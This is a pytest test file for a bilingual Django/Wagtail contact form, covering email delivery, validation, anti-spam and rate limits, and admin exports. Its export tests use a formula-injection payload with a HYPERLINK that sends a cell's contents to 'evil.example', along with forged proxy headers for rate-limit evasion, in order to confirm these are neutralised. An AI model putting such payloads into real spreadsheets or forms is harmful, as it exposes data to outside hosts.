"""The contact page: reachable details, a form whose enquiries are never lost, and abuse limits."""

import csv
import datetime
import io
import json
import logging
import re
import smtplib
import socket
import threading
import time
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core import mail
from django.core.cache import cache
from django.core.mail.backends.base import BaseEmailBackend
from django.utils import timezone
from django_tasks_db.management.commands.db_worker import Worker
from django_tasks_db.models import DBTaskResult
from wagtail.contrib.forms.models import EmailFormMixin

from cms.forms import MESSAGE_MAX
from cms.models import ContactPage, ContactSubmission
from publisher.models import SiteSettings
from tests.factories import enquiry, make_contact_page, make_site, post

# Real commits, so the notification (sent on commit) and ATOMIC_REQUESTS behave as in production.
committed = pytest.mark.django_db(transaction=True, serialized_rollback=True)


class BrokenEmailBackend(BaseEmailBackend):
    """An SMTP server that is down."""

    def send_messages(self, email_messages):
        raise smtplib.SMTPServerDisconnected("Connection unexpectedly closed")


def run_mail_worker():
    """Send the queued emails that are due, as `db_worker --backend mail` does, then stop."""
    Worker(
        queue_names=["default"],
        interval=0,
        batch=True,
        backend_name="mail",
        startup_delay=False,
        max_tasks=None,
        worker_id="test-worker",
        excluded_queue_names=[],
    ).run()


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    """Each test starts with no posts counted against the test client's IP."""
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def contact_page(site_tree):
    """The published contact page with its default fields."""
    home, _index = site_tree
    return make_contact_page(home)


# --- What visitors see -------------------------------------------------------------------


PAGE_TEXT = {
    "zh-hans": {
        "intro": "欢迎来电咨询。",
        "address": "中国,浙江,杭州",
        "hours": "周一至周五 9:00-18:00",
        "label": "电话或邮箱",
        "site_name": "杭吉干细胞资讯",
    },
    "en": {
        "intro": "Call or write to us.",
        "address": "Hangzhou, Zhejiang, China",
        "hours": "Mon-Fri 9:00-18:00",
        "label": "Phone or email",
        "site_name": "Hangji Stem Cell News",
    },
}


@pytest.mark.django_db
@pytest.mark.parametrize("lang", ["zh-hans", "en"])
def test_contact_page_shows_intro_details_and_form_in_each_language(client, contact_page, lang):
    SiteSettings.objects.update(
        opening_hours_zh_hans=PAGE_TEXT["zh-hans"]["hours"],
        opening_hours_en=PAGE_TEXT["en"]["hours"],
        email="info@example.com",
    )
    text = PAGE_TEXT[lang]
    response = client.get(f"/{lang}/contact/")
    assert response.status_code == 200
    html = response.text
    assert text["intro"] in html
    assert text["address"] in html
    assert text["hours"] in html
    assert '<a href="tel:4006220089">400-622-0089</a>' in html
    assert 'href="https://t.me/+8613967007000"' in html
    assert '<a href="mailto:info@example.com">info@example.com</a>' in html
    assert f'<label for="id_phone_or_email">{text["label"]}</label>' in html
    assert 'name="whf_name"' in html  # the honeypot is on by default


def test_default_fields_are_name_contact_message_and_consent(contact_page):
    fields = list(contact_page.form_fields.order_by("sort_order"))
    assert [(f.clean_name, f.field_type, f.required) for f in fields] == [
        ("name", "singleline", True),
        ("phone_or_email", "phone_or_email", True),
        ("message", "multiline", True),
        ("consent", "checkbox", True),
    ]
    assert all(f.label_zh_hans and f.label_en for f in fields)


def test_default_fields_are_not_added_twice(contact_page):
    contact_page.create_default_fields()
    contact_page.save()
    assert contact_page.form_fields.count() == 4


def test_one_contact_page_per_site(contact_page, site_tree):
    home, _index = site_tree
    assert not ContactPage.can_create_at(home)


@pytest.mark.django_db
@pytest.mark.parametrize("lang", ["zh-hans", "en"])
def test_contact_and_home_pages_publish_the_organisation_with_its_contact_point(
    client, contact_page, lang
):
    for url in (f"/{lang}/", f"/{lang}/contact/"):
        html = client.get(url).text
        scripts = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
        organisations = [
            data for data in map(json.loads, scripts) if data["@type"] == "MedicalOrganization"
        ]
        assert len(organisations) == 1, url
        organisation = organisations[0]
        assert organisation["@context"] == "https://schema.org"
        assert organisation["name"] == (
            "杭吉干细胞资讯" if lang == "zh-hans" else "Hangji Stem Cell News"
        )
        assert organisation["url"] == f"http://testserver/{lang}/"
        assert organisation["contactPoint"] == [
            {
                "@type": "ContactPoint",
                "telephone": "400-622-0089",
                "contactType": "customer service",
                "areaServed": "CN",
                "availableLanguage": ["zh-Hans", "en"],
            }
        ]
        assert "https://t.me/+8613967007000" in organisation["sameAs"]


# --- A valid enquiry ---------------------------------------------------------------------


@committed
def test_valid_enquiry_is_stored_thanked_then_emailed_by_the_worker(client):
    home, _index = make_site()
    make_contact_page(home, to_address="desk@example.com, doctor@example.com")

    response = post(client, "en")

    assert response.status_code == 200
    assert "Thank you for your message!" in response.text
    submission = ContactSubmission.objects.get()
    assert submission.form_data["name"] == "王小明"
    assert submission.form_data["phone_or_email"] == "xiaoming@example.com"
    assert submission.form_data["consent"] is True
    assert submission.delivery_status == ContactSubmission.Delivery.QUEUED
    assert mail.outbox == []  # nothing is sent while the visitor waits

    run_mail_worker()

    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["desk@example.com", "doctor@example.com"]
    assert message.reply_to == ["xiaoming@example.com"]
    assert "请问间充质干细胞治疗抑郁症的临床试验还在招募吗?" in message.body
    submission.refresh_from_db()
    assert submission.delivery_status == ContactSubmission.Delivery.SENT
    assert submission.delivery_attempts == 1


@committed
def test_a_page_without_recipients_stores_the_enquiry_and_queues_nothing(client):
    home, _index = make_site()
    make_contact_page(home, to_address="")

    post(client)

    submission = ContactSubmission.objects.get()
    assert submission.delivery_status == ContactSubmission.Delivery.NOT_EMAILED
    assert not DBTaskResult.objects.exists()


def due_now():
    """Let the retries the worker queued run at once, as if their delay had passed."""
    return DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())


@committed
def test_smtp_down_keeps_the_enquiry_retries_then_marks_it_failed_and_logs(
    client, settings, caplog
):
    home, _index = make_site()
    make_contact_page(home)
    settings.EMAIL_BACKEND = "tests.test_contact.BrokenEmailBackend"
    settings.CONTACT_NOTIFICATION_RETRY_DELAYS = (60, 300)

    response = post(client)
    assert response.status_code == 200
    assert "感谢您的留言!" in response.text

    with caplog.at_level(logging.WARNING, logger="cms.contact"):
        run_mail_worker()
        retry = DBTaskResult.objects.get(status="READY")
        assert retry.run_after > timezone.now() + datetime.timedelta(seconds=50)
        run_mail_worker()  # the retry is not due yet
        assert ContactSubmission.objects.get().delivery_attempts == 1
        due_now()
        run_mail_worker()
        assert ContactSubmission.objects.get().delivery_status == "retrying"
        due_now()
        run_mail_worker()

    submission = ContactSubmission.objects.get()
    assert submission.form_data["name"] == "王小明"
    assert submission.delivery_status == ContactSubmission.Delivery.FAILED
    assert submission.delivery_attempts == 3
    assert not DBTaskResult.objects.filter(status="READY").exists()
    assert mail.outbox == []
    records = [r for r in caplog.records if r.name == "cms.contact"]
    assert [r.levelno for r in records] == [logging.WARNING, logging.WARNING, logging.ERROR]
    assert "stored in the admin" in records[-1].getMessage()
    assert isinstance(records[-1].exc_info[1], smtplib.SMTPException)


@pytest.fixture
def hanging_smtp_server():
    """A mail server on a free loopback port that accepts connections and never answers."""
    server = socket.create_server(("127.0.0.1", 0))
    connections = []

    def accept():
        while True:
            try:
                connections.append(server.accept()[0])
            except OSError:  # closed at the end of the test
                return

    threading.Thread(target=accept, daemon=True).start()
    yield server.getsockname()[1], connections
    server.close()
    for connection in connections:
        connection.close()


@committed
def test_a_hanging_mail_server_never_holds_the_visitor(
    client, admin_user, settings, hanging_smtp_server
):
    port, connections = hanging_smtp_server
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", port, 0.2
    settings.CONTACT_NOTIFICATION_RETRY_DELAYS = (60,)
    home, _index = make_site()
    page = make_contact_page(home)

    response = post(client)

    # The visitor is thanked before anything talks to the mail server.
    assert response.status_code == 200
    assert "感谢您的留言!" in response.text
    assert connections == []
    assert ContactSubmission.objects.get().delivery_status == "queued"

    run_mail_worker()
    assert ContactSubmission.objects.get().delivery_status == "retrying"
    due_now()
    run_mail_worker()

    submission = ContactSubmission.objects.get()
    assert (submission.delivery_status, submission.delivery_attempts) == ("failed", 2)
    assert len(connections) == 2
    client.force_login(admin_user)
    listing = client.get(f"/admin/forms/submissions/{page.pk}/")
    assert "通知邮件" in listing.text  # the column heading
    assert re.search(r"<td[^>]*>\s*失败\s*</td>", listing.text)


@committed
def test_stock_wagtail_would_answer_500_and_lose_the_enquiry_when_smtp_is_down(
    client, settings, monkeypatch
):
    """Why ContactPage.send_mail exists: Wagtail's own sends inside the request's transaction."""
    home, _index = make_site()
    make_contact_page(home)
    settings.EMAIL_BACKEND = "tests.test_contact.BrokenEmailBackend"
    monkeypatch.setattr(ContactPage, "send_mail", EmailFormMixin.send_mail)
    client.raise_request_exception = False

    response = post(client)

    assert response.status_code == 500
    assert not ContactSubmission.objects.exists()


# --- Bad input ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_message_over_5000_characters_is_refused_with_a_clear_error(client, contact_page):
    response = post(client, "en", message="字" * (MESSAGE_MAX + 1))

    assert response.status_code == 200
    assert "Please shorten this to at most 5000 characters (it has 5001)." in response.text
    assert not ContactSubmission.objects.exists()


@pytest.mark.django_db
def test_message_of_exactly_5000_characters_is_accepted(client, contact_page):
    post(client, message="字" * MESSAGE_MAX)
    assert ContactSubmission.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("contact", ["139-6700-7000", "+86 139 6700 7000", "a@example.cn"])
def test_phone_or_email_accepts_either(client, contact_page, contact):
    post(client, phone_or_email=contact)
    assert ContactSubmission.objects.get().form_data["phone_or_email"] == contact


@pytest.mark.django_db
def test_phone_or_email_refuses_anything_else_with_a_clear_error(client, contact_page):
    response = post(client, "en", phone_or_email="call me maybe")

    assert "Enter a phone number (digits, e.g. 139-6700-7000) or an email address." in (
        response.text
    )
    assert not ContactSubmission.objects.exists()


@pytest.mark.django_db
def test_consent_is_required(client, contact_page):
    data = enquiry()
    del data["consent"]
    response = client.post("/en/contact/", data)
    assert "This field is required." in response.text
    assert not ContactSubmission.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ["multipart", "urlencoded"])
def test_a_3_mb_body_gets_400_not_500(client, contact_page, encoding):
    data = enquiry(message="x" * 3 * 1024 * 1024)
    if encoding == "multipart":
        response = client.post("/zh-hans/contact/", data)
    else:
        response = client.post(
            "/zh-hans/contact/", urlencode(data), content_type="application/x-www-form-urlencoded"
        )
    assert response.status_code == 400
    assert not ContactSubmission.objects.exists()


# --- Abuse -------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "trap",
    [
        lambda: {"whf_name": "http://spam.example"},  # filled the hidden field
        lambda: {"whf_time": ContactPage.honeypot_timestamp()},  # posted the instant it was shown
        lambda: {"whf_time": str(int(time.time()) - 60)},  # made up the display time
    ],
    ids=["hidden-field-filled", "posted-too-fast", "forged-time"],
)
def test_robots_get_the_same_thank_you_page_and_nothing_is_stored(client, contact_page, trap):
    human = post(client)
    ContactSubmission.objects.all().delete()

    robot = post(client, **trap())

    assert robot.status_code == human.status_code == 200
    assert "感谢您的留言!" in robot.text
    assert not ContactSubmission.objects.exists()


@pytest.mark.django_db
def test_a_post_without_the_honeypot_fields_is_dropped(client, contact_page):
    data = enquiry()
    del data["whf_name"], data["whf_time"]
    response = client.post("/zh-hans/contact/", data)
    assert response.status_code == 200
    assert "感谢您的留言!" in response.text
    assert not ContactSubmission.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("lang", "text"),
    [("zh-hans", '<html lang="zh-hans">'), ("en", "Please try again in about ten minutes")],
)
def test_the_sixth_post_in_ten_minutes_is_refused_politely(client, contact_page, lang, text):
    for _n in range(5):
        assert post(client, lang).status_code == 200

    refused = post(client, lang)

    assert refused.status_code == 429
    assert refused["Retry-After"] == "600"
    assert text in refused.text
    assert '<a href="tel:4006220089">' in refused.text
    assert ContactSubmission.objects.count() == 5


@pytest.mark.django_db
def test_the_rate_limit_is_per_client_ip(client, contact_page):
    for _n in range(6):
        post(client)
    other = client.post("/zh-hans/contact/", enquiry(), REMOTE_ADDR="203.0.113.9")
    assert other.status_code == 200


@pytest.mark.django_db
def test_reading_the_contact_page_is_not_rate_limited(client, contact_page):
    for _n in range(10):
        assert client.get("/zh-hans/contact/").status_code == 200


@pytest.mark.django_db
def test_a_form_displayed_three_days_ago_is_accepted(client, contact_page):
    response = post(client, whf_time=ContactPage.honeypot_timestamp(time.time() - 3 * 24 * 3600))

    assert "感谢您的留言!" in response.text
    assert ContactSubmission.objects.count() == 1


@pytest.mark.django_db
def test_a_form_left_open_over_a_week_is_shown_again_with_a_clear_message(client, contact_page):
    stale = ContactPage.honeypot_timestamp(time.time() - 8 * 24 * 3600)

    response = post(client, "en", whf_time=stale, message="我的问题")

    assert response.status_code == 200
    assert "This form was opened more than a week ago." in response.text
    assert "我的问题" in response.text  # what the visitor wrote is kept
    assert not ContactSubmission.objects.exists()
    fresh = re.search(r'name="whf_time"[^>]* value="([^"]+)"', response.text).group(1)
    assert fresh != stale
    # Sent again after a moment, it is stored.
    post(client, whf_time=ContactPage.honeypot_timestamp(time.time() - 30))
    assert ContactSubmission.objects.count() == 1


@pytest.mark.django_db
def test_a_stale_form_message_is_in_chinese_on_the_chinese_page(client, contact_page):
    response = post(client, whf_time=ContactPage.honeypot_timestamp(time.time() - 8 * 24 * 3600))
    assert "此表单是一周多以前打开的" in response.text


@pytest.mark.django_db
def test_invalid_posts_do_not_count_toward_the_rate_limit(client, contact_page):
    for _n in range(6):
        refused = post(client, "en", phone_or_email="call me maybe")
        assert refused.status_code == 200
        assert "Enter a phone number" in refused.text

    accepted = post(client)

    assert accepted.status_code == 200
    assert ContactSubmission.objects.count() == 1


@pytest.fixture
def behind_proxy(settings):
    """Production's default: nginx on this host reports the client address (test_foundation)."""
    settings.TRUSTED_PROXIES = ["127.0.0.1", "::1"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"HTTP_X_REAL_IP": "not-an-ip"},
        {"HTTP_X_REAL_IP": "1.2.3.4, 5.6.7.8"},
        {"HTTP_X_FORWARDED_FOR": "garbage, , 2001:db8::1"},
        {"REMOTE_ADDR": ""},
    ],
    ids=["no-header", "not-an-ip", "a-list", "forwarded-for-list", "unix-socket"],
)
def test_a_missing_or_malformed_client_address_still_stores_the_enquiry(
    client, contact_page, behind_proxy, headers
):
    response = client.post("/zh-hans/contact/", enquiry(), **headers)

    assert response.status_code == 200
    assert "感谢您的留言!" in response.text
    assert ContactSubmission.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("peer", "header"),
    [("203.0.113.5", "HTTP_X_REAL_IP"), ("127.0.0.1", "HTTP_X_FORWARDED_FOR")],
    ids=["direct-client-sets-x-real-ip", "client-prepends-to-x-forwarded-for"],
)
def test_a_client_cannot_rotate_the_address_header_past_the_limit(
    client, contact_page, behind_proxy, peer, header
):
    def post_as(n):
        # Behind nginx, the address it saw comes last; what the client wrote comes first.
        value = f"10.0.0.{n}, 198.51.100.7" if peer == "127.0.0.1" else f"10.0.0.{n}"
        return client.post("/zh-hans/contact/", enquiry(), REMOTE_ADDR=peer, **{header: value})

    for n in range(5):
        assert post_as(n).status_code == 200

    assert post_as(99).status_code == 429
    assert ContactSubmission.objects.count() == 5


@pytest.mark.django_db
def test_visitors_behind_the_proxy_are_limited_separately(client, contact_page, behind_proxy):
    for _n in range(6):
        client.post("/zh-hans/contact/", enquiry(), HTTP_X_REAL_IP="198.51.100.7")
    other = client.post("/zh-hans/contact/", enquiry(), HTTP_X_REAL_IP="198.51.100.8")
    assert other.status_code == 200


# --- Admin -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_editors_can_edit_the_contact_page_but_not_add_a_second(client, admin_user, contact_page):
    client.force_login(admin_user)
    edit = client.get(f"/admin/pages/{contact_page.pk}/edit/")
    add = client.get(f"/admin/pages/add/cms/contactpage/{contact_page.get_parent().pk}/")

    assert edit.status_code == 200
    assert "form_fields-0-label_zh_hans" in edit.text
    assert "form_fields-0-label_en" in edit.text
    assert add.status_code == 302


@pytest.mark.django_db
def test_submissions_are_listed_and_exported_as_csv_in_the_admin(client, admin_user, contact_page):
    post(client)
    client.force_login(admin_user)

    listing = client.get(f"/admin/forms/submissions/{contact_page.pk}/")
    export = client.get(f"/admin/forms/submissions/{contact_page.pk}/?export=csv")

    assert listing.status_code == 200
    assert "王小明" in listing.text
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")
    csv_text = b"".join(export.streaming_content).decode("utf-8-sig")
    assert "xiaoming@example.com" in csv_text
    assert "请问间充质干细胞治疗抑郁症的临床试验还在招募吗?" in csv_text


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "phone_or_email": "+86 139 6700 7000",
    "message": "@SUM(1+1)",
}


@pytest.fixture
def hostile_submission(client, contact_page):
    """An anonymous visitor's enquiry with formula cells, sent at 02:03:04.5 UTC."""
    post(client, **HOSTILE)
    sent = datetime.datetime(2025, 3, 1, 2, 3, 4, 567890, tzinfo=datetime.UTC)
    ContactSubmission.objects.update(submit_time=sent)
    return contact_page


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_has_a_bom_and_beijing_time(
    client, admin_user, hostile_submission
):
    client.force_login(admin_user)
    export = client.get(f"/admin/forms/submissions/{hostile_submission.pk}/?export=csv")

    body = b"".join(export.streaming_content)
    assert export["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    assert header[:3] == ["提交日期", "通知邮件", "姓名"]
    cells = dict(zip(header, row, strict=True))
    assert cells["提交日期"] == "2025-03-01 10:03:04"
    assert cells["姓名"] == "'" + HOSTILE["name"]
    assert cells["电话或邮箱"] == "'+86 139 6700 7000"
    assert cells["留言"] == "'@SUM(1+1)"


@pytest.mark.django_db
def test_xlsx_export_neutralises_formulas_and_shows_beijing_time(
    client, admin_user, hostile_submission
):
    client.force_login(admin_user)
    export = client.get(f"/admin/forms/submissions/{hostile_submission.pk}/?export=xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    header, row = sheet.iter_rows(values_only=True)
    cells = dict(zip(header, row, strict=True))
    assert cells["提交日期"].isoformat() == "2025-03-01T10:03:04"  # Excel dates have no zone
    assert cells["姓名"] == "'" + HOSTILE["name"]
    assert cells["留言"] == "'@SUM(1+1)"
    assert all(cell.data_type != "f" for cell in next(sheet.iter_rows(min_row=2)))
